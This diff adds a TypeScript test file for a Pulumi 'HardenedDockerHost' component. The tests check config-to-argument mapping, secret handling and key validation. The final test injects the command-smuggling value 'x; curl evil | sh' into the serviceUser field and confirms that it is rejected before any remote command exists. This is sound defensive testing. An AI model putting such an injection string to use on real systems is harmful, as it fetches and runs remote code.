@@ -1,0 +1,179 @@
+import { readFileSync } from "node:fs";
+import { join } from "node:path";
+import * as pulumi from "@pulumi/pulumi";
+import { parse } from "yaml";
+import { recorded, reset, settle, valueOf } from "./helpers/mocks";
+import { HardenedDockerHost } from "../../components";
+import {
+  CONFIG_KEYS,
+  ConfigSource,
+  checkConfigKeys,
+  hostArgsFromConfig,
+} from "../../stacks/config";
+import { HOST_KEY } from "./helpers/fixtures";
+
+const root = join(__dirname, "..", "..");
+
+function source(
+  values: Record<string, unknown>,
+  secrets: Record<string, unknown> = {},
+): ConfigSource {
+  return {
+    get: (k) => values[k],
+    requireSecret: (k) => {
+      if (secrets[k] === undefined) throw new Error(`missing required secret ${k}`);
+      return pulumi.secret(secrets[k] as string);
+    },
+    getSecretObject: (k) => (secrets[k] === undefined ? undefined : pulumi.secret(secrets[k])),
+  };
+}
+
+/** The example stack's config, without the project prefix. */
+function exampleConfig(): Record<string, unknown> {
+  const doc = parse(readFileSync(join(root, "stacks", "Pulumi.example.yaml"), "utf8")) as {
+    config: Record<string, unknown>;
+  };
+  return Object.fromEntries(
+    Object.entries(doc.config).map(([k, v]) => [k.replace(/^hardened-docker:/, ""), v]),
+  );
+}
+
+describe("stack config -> HardenedDockerHostArgs", () => {
+  test("maps every flat key onto its argument", () => {
+    const args = hostArgsFromConfig(
+      source(
+        {
+          host: "h.example",
+          port: 2200,
+          user: "admin",
+          hostKey: HOST_KEY,
+          serviceUser: "svc",
+          serviceUserUid: 1600,
+          serviceUserShell: "/bin/sh",
+          subordinateIdStart: 300000,
+          subordinateIdCount: 70000,
+          removeServiceUserOnDestroy: true,
+          dockerInstall: "docker-repo",
+          dockerVersion: "27.5.1",
+          unprivilegedPortStart: 80,
+          portDriver: "builtin",
+          disableRootfulDaemon: false,
+          daemonConfig: { debug: true },
+        },
+        { privateKey: "KEY" },
+      ),
+    );
+    expect({ ...args, connection: { ...args.connection, privateKey: "<secret>" } }).toEqual({
+      connection: {
+        host: "h.example",
+        port: 2200,
+        user: "admin",
+        hostKey: HOST_KEY,
+        privateKey: "<secret>",
+      },
+      serviceUser: {
+        name: "svc",
+        uid: 1600,
+        shell: "/bin/sh",
+        subordinateIds: { start: 300000, count: 70000 },
+        removeOnDestroy: true,
+      },
+      docker: {
+        install: "docker-repo",
+        version: "27.5.1",
+        unprivilegedPortStart: 80,
+        portDriver: "builtin",
+        disableRootfulDaemon: false,
+        daemonConfig: { debug: true },
+      },
+      services: [],
+    });
+    expect(pulumi.Output.isInstance(args.connection.privateKey)).toBe(true);
+  });
+
+  test("an empty hostKey (the Pulumi.yaml default) counts as unset", () => {
+    const args = hostArgsFromConfig(source({ host: "h", hostKey: "" }, { privateKey: "K" }));
+    expect(args.connection.hostKey).toBeUndefined();
+  });
+
+  test("secretEnvironment values come from serviceSecrets and stay secret", async () => {
+    const args = hostArgsFromConfig(
+      source(
+        {
+          host: "h",
+          services: [
+            {
+              name: "app",
+              execStart: "/bin/app",
+              environment: { A: "1" },
+              secretEnvironment: ["TOKEN"],
+            },
+          ],
+        },
+        { privateKey: "K", serviceSecrets: { app: { TOKEN: "t0k3n" } } },
+      ),
+    );
+    const token = args.services![0].environment!.TOKEN as pulumi.Output<string>;
+    expect(await pulumi.isSecret(token)).toBe(true);
+    expect(await valueOf(token)).toBe("t0k3n");
+    expect(args.services![0].environment!.A).toBe("1");
+    expect(args.services![0]).not.toHaveProperty("secretEnvironment");
+  });
+
+  test("secretEnvironment without serviceSecrets is an error naming the key to set", () => {
+    expect(() =>
+      hostArgsFromConfig(
+        source(
+          {
+            host: "h",
+            services: [{ name: "app", execStart: "/bin/app", secretEnvironment: ["TOKEN"] }],
+          },
+          { privateKey: "K" },
+        ),
+      ),
+    ).toThrow(/^serviceSecrets: .*serviceSecrets\.app\.TOKEN/);
+  });
+
+  test("unknown config keys are rejected (a typo never falls back to a default)", () => {
+    expect(() => checkConfigKeys(["host", "prot"])).toThrow(/^config\.prot: /);
+    expect(() => checkConfigKeys([...CONFIG_KEYS])).not.toThrow();
+  });
+
+  test("every key declared in Pulumi.yaml is one the program reads", () => {
+    const project = parse(readFileSync(join(root, "Pulumi.yaml"), "utf8")) as {
+      config: Record<string, unknown>;
+    };
+    for (const key of Object.keys(project.config)) expect(CONFIG_KEYS).toContain(key);
+  });
+
+  test("the example stack builds a valid host", async () => {
+    reset();
+    const cfg = exampleConfig();
+    checkConfigKeys(Object.keys(cfg));
+    const args = hostArgsFromConfig(
+      source(cfg, { privateKey: "K", serviceSecrets: { provisioner: { ADMIN_TOKEN: "x" } } }),
+    );
+    const host = new HardenedDockerHost("example", args);
+    await valueOf(host.dockerHost);
+    await settle();
+    expect(
+      recorded.filter((r) => r.type === "command:remote:Command").map((r) => r.name),
+    ).toContain("example-provisioner-unit");
+  });
+
+  test("a hostile value in stack config fails before any command exists", async () => {
+    reset();
+    const cfg = { ...exampleConfig(), serviceUser: "x; curl evil | sh" };
+    expect(
+      () =>
+        new HardenedDockerHost(
+          "hostile",
+          hostArgsFromConfig(
+            source(cfg, { privateKey: "K", serviceSecrets: { provisioner: { ADMIN_TOKEN: "x" } } }),
+          ),
+        ),
+    ).toThrow(/^serviceUser\.name: "x; curl evil \| sh" is not valid/);
+    await settle();
+    expect(recorded.filter((r) => r.type === "command:remote:Command")).toEqual([]);
+  });
+});
